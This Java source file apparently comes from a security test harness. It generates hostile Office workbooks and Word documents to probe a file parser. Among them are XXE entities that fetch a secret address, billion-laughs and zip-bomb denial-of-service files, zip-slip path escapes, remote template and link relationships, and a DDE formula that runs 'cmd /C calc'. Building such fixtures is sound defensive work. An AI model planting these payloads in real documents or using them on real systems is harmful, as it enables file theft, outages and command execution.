package io.kraftd.app.hostile;

import io.kraftd.app.samples.Zip;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.IntFunction;

/** Office files that read, call, write or unpack without end. */
final class OfficeTraps {
    private static final String SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    private static final String OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    private static final String PACKAGE = "http://schemas.openxmlformats.org/package/2006/";
    private static final String WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    private static final String TYPE = "application/vnd.openxmlformats-officedocument.";

    private OfficeTraps() {}

    static Map<String, IntFunction<byte[]>> workbooks(Trap trap) {
        Map<String, IntFunction<byte[]>> all = new LinkedHashMap<>();
        all.put("xlsx external entity", n -> workbook(doctype(trap), cell("&e;&f;", n)));
        all.put("xlsx external DTD", n -> workbook("<!DOCTYPE x SYSTEM \"" + trap.address() + "\">", cell("x", n)));
        all.put(
                "xlsx parameter entity",
                n -> workbook("<!DOCTYPE x [<!ENTITY % p SYSTEM \"" + trap.address() + "\"> %p;]>", cell("x", n)));
        all.put("xlsx laughs", n -> workbook(laughs(), cell("&i;", n)));
        all.put("xlsx bomb", n -> workbook("", cell("x", n) + "<row>" + " ".repeat(48 << 20) + "</row>"));
        all.put(
                "xlsx far cells",
                n -> workbook(
                        "", "<row r=\"2147483647\"><c r=\"XFD2147483647\"><v>" + n + "</v></c></row>" + cell("x", n)));
        all.put(
                "xlsx odd references",
                n -> workbook(
                        "",
                        "<row r=\"-1\"><c r=\"ZZZZZZZ99999999999\" t=\"s\"><v>999999999</v></c></row>" + cell("x", n)));
        all.put("xlsx depth", n -> workbook("", "<x>".repeat(100_000) + n));
        all.put("xlsx external link", n -> linked(trap, n));
        all.put("xlsx DDE and calls", n -> workbook("", formulas(trap, n)));
        all.put("xlsx slip", n -> slip(trap, n));
        all.put("xlsx many parts", OfficeTraps::manyParts);
        return all;
    }

    static Map<String, IntFunction<byte[]>> texts(Trap trap) {
        Map<String, IntFunction<byte[]>> all = new LinkedHashMap<>();
        all.put("docx external entity", n -> document(doctype(trap), paragraph("&e;&f;", n), ""));
        all.put("docx laughs", n -> document(laughs(), paragraph("&i;", n), ""));
        all.put("docx remote template", n -> document("", paragraph("x", n), remote("attachedTemplate", trap)));
        all.put("docx remote picture", n -> document("", paragraph("x", n), remote("image", trap)));
        all.put("docx remote frame", n -> document("", paragraph("x", n), remote("frame", trap)));
        all.put("docx depth", n -> document("", "<w:tbl>".repeat(50_000) + n, ""));
        all.put("docx bomb", n -> document("", paragraph(" ".repeat(48 << 20), n), ""));
        return all;
    }

    private static String doctype(Trap trap) {
        return "<!DOCTYPE x [<!ENTITY e SYSTEM \"%s\"><!ENTITY f SYSTEM \"%s\">]>"
                .formatted(trap.secretAddress(), trap.address());
    }

    private static String laughs() {
        StringBuilder entities = new StringBuilder("<!DOCTYPE x [<!ENTITY a \"laugh\">");
        for (char name = 'b'; name <= 'i'; name++) {
            String before = "&" + (char) (name - 1) + ";";
            entities.append("<!ENTITY ")
                    .append(name)
                    .append(" \"")
                    .append(before.repeat(10))
                    .append("\">");
        }
        return entities.append("]>").toString();
    }

    private static String cell(String text, int n) {
        return "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>%s %d</t></is></c></row>".formatted(text, n);
    }

    private static String formulas(Trap trap, int n) {
        return "<row r=\"1\"><c r=\"A1\" t=\"str\"><f>WEBSERVICE(\"%s\")</f><v>%d</v></c>".formatted(trap.address(), n)
                + "<c r=\"B1\" t=\"str\"><f>cmd|'/C calc'!A0</f><v>=cmd|'/C calc'!A0</v></c></row>";
    }

    private static Map<String, String> workbookParts(String doctype, String rows) {
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", """
                <Types xmlns="%scontent-types"><Default Extension="rels" \
                ContentType="application/vnd.openxmlformats-package.relationships+xml"/>\
                <Override PartName="/xl/workbook.xml" ContentType="%sspreadsheetml.sheet.main+xml"/>\
                <Override PartName="/xl/worksheets/sheet1.xml" ContentType="%sspreadsheetml.worksheet+xml"/></Types>""".formatted(PACKAGE, TYPE, TYPE));
        parts.put("_rels/.rels", relationships(relationship("officeDocument", "xl/workbook.xml", "")));
        parts.put("xl/_rels/workbook.xml.rels", relationships(relationship("worksheet", "worksheets/sheet1.xml", "")));
        parts.put("xl/workbook.xml", """
                <workbook xmlns="%s" xmlns:r="%s"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>""".formatted(SHEET, OFFICE));
        parts.put(
                "xl/worksheets/sheet1.xml",
                "<?xml version=\"1.0\"?>" + doctype + "<worksheet xmlns=\"" + SHEET + "\"><sheetData>" + rows
                        + "</sheetData></worksheet>");
        return parts;
    }

    private static byte[] workbook(String doctype, String rows) {
        return Zip.of(workbookParts(doctype, rows));
    }

    private static byte[] linked(Trap trap, int n) {
        Map<String, String> parts = workbookParts("", cell("x", n));
        parts.put("xl/externalLinks/externalLink1.xml", "<externalLink xmlns=\"" + SHEET + "\"/>");
        parts.put("xl/externalLinks/_rels/externalLink1.xml.rels", relationships(remote("externalLinkPath", trap)));
        parts.put(
                "xl/connections.xml",
                "<connections><connection><webPr url=\"" + trap.address() + "\"/></connection></connections>");
        return Zip.of(parts);
    }

    private static byte[] slip(Trap trap, int n) {
        Map<String, String> parts = workbookParts("", cell("x", n));
        trap.escapes().forEach(name -> parts.put(name, "written " + n));
        return Zip.of(parts);
    }

    private static byte[] manyParts(int n) {
        Map<String, String> parts = workbookParts("", cell("x", n));
        for (int part = 0; part < 20_000; part++) {
            parts.put("xl/media/" + part, "");
        }
        return Zip.of(parts);
    }

    private static byte[] document(String doctype, String body, String relationship) {
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", """
                <Types xmlns="%scontent-types"><Default Extension="rels" \
                ContentType="application/vnd.openxmlformats-package.relationships+xml"/>\
                <Override PartName="/word/document.xml" ContentType="%swordprocessingml.document.main+xml"/></Types>""".formatted(PACKAGE, TYPE));
        parts.put("_rels/.rels", relationships(relationship("officeDocument", "word/document.xml", "")));
        parts.put("word/_rels/document.xml.rels", relationships(relationship));
        parts.put(
                "word/document.xml",
                "<?xml version=\"1.0\"?>" + doctype + "<w:document xmlns:w=\"" + WORD + "\"><w:body>" + body
                        + "</w:body></w:document>");
        return Zip.of(parts);
    }

    private static String paragraph(String text, int n) {
        return "<w:p><w:r><w:t>" + text + " " + n + "</w:t></w:r></w:p>";
    }

    private static String remote(String kind, Trap trap) {
        return relationship(kind, trap.address(), "TargetMode=\"External\"");
    }

    private static String relationship(String kind, String target, String mode) {
        return "<Relationship Id=\"rId1\" Type=\"%s/%s\" Target=\"%s\" %s/>".formatted(OFFICE, kind, target, mode);
    }

    private static String relationships(String all) {
        return "<Relationships xmlns=\"%srelationships\">%s</Relationships>".formatted(PACKAGE, all);
    }
}
